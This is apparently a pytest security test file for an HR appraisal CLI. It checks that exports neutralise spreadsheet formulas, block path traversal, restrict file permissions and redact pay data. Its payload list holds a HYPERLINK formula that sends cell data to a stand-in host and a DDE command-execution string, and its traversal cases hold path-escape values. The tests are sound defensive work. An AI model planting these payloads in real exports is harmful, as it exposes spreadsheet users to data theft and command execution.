"""What ``appraise run`` writes, against hostile data (issue #9).

- Text a spreadsheet would run as a formula is neutralised in results.csv and results.xlsx.
- Ids and team names never make a page land outside the output folder.
- Output folders are owner-only (0700 folders, 0600 files): they hold pay data.
- ``--redact`` writes exports that can leave HR (no names, no bonus amounts).
"""
from __future__ import annotations

import csv
import io
import os
import shutil
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from appraise.cli import main
from engine_inputs import EXAMPLE

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def work(tmp_path) -> Path:
    folder = tmp_path / "example"
    shutil.copytree(EXAMPLE, folder)
    return folder


def set_names(work: Path, names: dict[str, str]) -> None:
    path = work / "data" / "employees.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    for row in rows[1:]:
        if row and row[0] in names:
            row[1] = names[row[0]]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def run(work: Path, *args, ok: bool = True):
    res = CliRunner().invoke(main, ["run", str(work / "cycle-q3.yaml"), "--quiet", *args])
    if ok:
        assert res.exit_code == 0, res.output + str(res.exception)
    return res


def test_formula_like_names_are_text_in_csv_and_xlsx(work):
    ids = ["E001", "E003", "E004", "E005", "E006", "E007"]
    set_names(work, dict(zip(ids, FORMULAS)))
    run(work)
    out = work / "out" / "2026-Q3"
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((out / "results.csv").read_text(encoding="utf-8-sig")))}
    for emp, name in zip(ids, FORMULAS):
        if emp in rows:
            assert rows[emp]["name"] == "'" + name, rows[emp]["name"]
    from openpyxl import load_workbook

    book = load_workbook(out / "results.xlsx")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.lstrip("'") in FORMULAS:
                    assert cell.value.startswith("'"), f"{ws.title}!{cell.coordinate}: {cell.value!r}"


@pytest.mark.parametrize("column, value", [("team", "../../../escaped"), ("team", "/tmp/abs-team"),
                                           ("id", "../../escaped-id")])
def test_ids_and_team_names_never_write_outside_the_output_folder(work, column, value):
    path = work / "data" / "employees.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    col = rows[0].index(column)
    old = rows[1][col]
    rows[1][col] = value
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    if column == "id":  # the employee's other rows follow the new id
        for name in ("metrics.csv", "feedback.csv"):
            p = work / "data" / name
            p.write_text(p.read_text(encoding="utf-8").replace(f"\n{old},", f"\n{value},"), encoding="utf-8")
        okr = work / "data" / "okrs-2026-Q3.yaml"
        okr.write_text(okr.read_text(encoding="utf-8").replace(f"{old}:", f'"{value}":'), encoding="utf-8")
    before = {p for p in work.parent.rglob("*")} | set(Path("/tmp").glob("abs-team*"))
    run(work, ok=False)
    after = {p for p in work.parent.rglob("*")} | set(Path("/tmp").glob("abs-team*"))
    out = (work / "out").resolve()
    new = [p for p in after - before if p.is_file()]
    escaped = [p for p in new if not p.resolve().is_relative_to(out) and not p.resolve().is_relative_to(
        (work / "out").resolve().parent / "out")]
    assert not escaped, escaped


def _modes(folder: Path) -> dict[str, int]:
    return {p.relative_to(folder).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in [folder, *folder.rglob("*")]}


def test_outputs_are_owner_only(work):
    old = os.umask(0o022)
    try:
        run(work)
    finally:
        os.umask(old)
    modes = _modes(work / "out" / "2026-Q3")
    bad = {k: oct(v) for k, v in modes.items()
           if v & 0o077 or ((work / "out" / "2026-Q3" / k).is_dir() and v != 0o700)}
    assert not bad, bad


def test_redact_leaves_no_names_or_bonus_amounts(work):
    res = run(work, "--redact", ok=False)
    assert res.exit_code == 0, res.output
    out = work / "out" / "2026-Q3"
    text = (out / "results.csv").read_text(encoding="utf-8-sig") + (out / "results.json").read_text(encoding="utf-8")
    for name in ("Li Wei", "Zhang Min", "赵磊"):
        assert name not in text
    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text(encoding="utf-8-sig"))))
    assert rows and "bonus" not in rows[0]
    assert not list(out.rglob("*.html"))
